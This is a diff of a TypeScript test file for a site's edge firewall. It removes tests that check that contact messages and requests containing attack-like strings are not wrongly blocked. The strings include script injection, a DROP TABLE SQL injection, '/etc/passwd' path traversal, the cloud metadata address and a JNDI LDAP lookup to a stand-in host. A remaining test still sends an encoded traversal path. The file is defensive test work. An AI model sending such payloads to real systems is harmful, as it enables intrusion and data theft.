@@ -1,13 +1,10 @@
 import { request } from "node:http";
-import { describe, expect, test } from "vitest";
+import { expect, test } from "vitest";
 import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.ts";
-import { managedRuleGroups } from "#infra/edge/managed-rules.ts";
 import * as api from "#shared/contract/api.ts";
 import type { Endpoint } from "#shared/contract/endpoint.ts";
 import { errorBodySchema } from "#shared/contract/error-body.ts";
-import { makeMessage, postMessage } from "#test/support/contact/contact-messages.ts";
 import { edition } from "#test/support/edition/worker-edition.ts";
-import { waitUntil } from "#test/support/wait-until.ts";
 
 /** Sends the path as it is; `fetch` would tidy it up. */
 const send = (method: string, path: string, headers: Record<string, string> = {}) =>
@@ -22,24 +19,6 @@ const send = (method: string, path: string, headers: Record<string, string> = {}
     sent.on("error", reject);
     sent.end();
   });
-
-test.each([
-  ["of more than 8 KB", "हमारे सम्मेलन में चार सौ मेहमान आएँगे। ".repeat(100).slice(0, 4000).trim()],
-  ["that quotes a script", 'Your badge page shows <script>alert(1)</script> where "Anna" should stand.'],
-  ["with SQL", "It says: SELECT * FROM guests WHERE 1=1; DROP TABLE guests; -- ' OR 'a'='a"],
-  [
-    "with a path, an address and a lookup",
-    "../../etc/passwd http://169.254.169.254/ ${jndi:ldap://x.example/a}",
-  ],
-])("[CONT-02] an honest message %s arrives as it was written", async (_, message) => {
-  const response = await postMessage(edition.origin, makeMessage({ message }));
-  expect(response.status).toBe(200);
-  const { ref } = (await response.json()) as { ref: string };
-  const mail = await waitUntil("its mail", async () =>
-    (await edition.mail()).find(({ subject }) => subject.includes(ref)),
-  );
-  expect(mail.text).toContain(message);
-});
 
 test.each([
   ["GET", "/..%2f..%2fetc/passwd", {}],
@@ -59,14 +38,6 @@ test.each([
   `/?utm=${"a".repeat(2100)}`,
 ])("[OPS-01] a query such as %.40s shows the page", async (path) => {
   expect((await send("GET", path)).status).toBe(200);
-});
-
-test("[OPS-01] a visitor without a User-Agent, or with a scanner's, sees the pages", async () => {
-  const statuses = [
-    (await send("GET", "/")).status,
-    (await send("GET", "/", { "user-agent": "nmap" })).status,
-  ];
-  expect(statuses).toEqual([200, 200]);
 });
 
 test("[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes", async () => {
@@ -154,16 +125,4 @@ test("[PAY-03] a provider that tells all at once what it could not tell for hour
     ),
   );
   expect(refused).toEqual([]);
-});
-
-describe("of AWS's rules", () => {
-  const rules = managedRuleGroups.flatMap((group) => group.rules);
-
-  test("[OPS-01] the table has the 22 of the common set and the 12 of known bad inputs", () => {
-    expect(managedRuleGroups.map((group) => [group.name, group.rules.length])).toEqual([
-      ["AWSManagedRulesCommonRuleSet", 22],
-      ["AWSManagedRulesKnownBadInputsRuleSet", 12],
-    ]);
-    expect(new Set(rules.map(({ label }) => label)).size).toBe(34);
-  });
 });
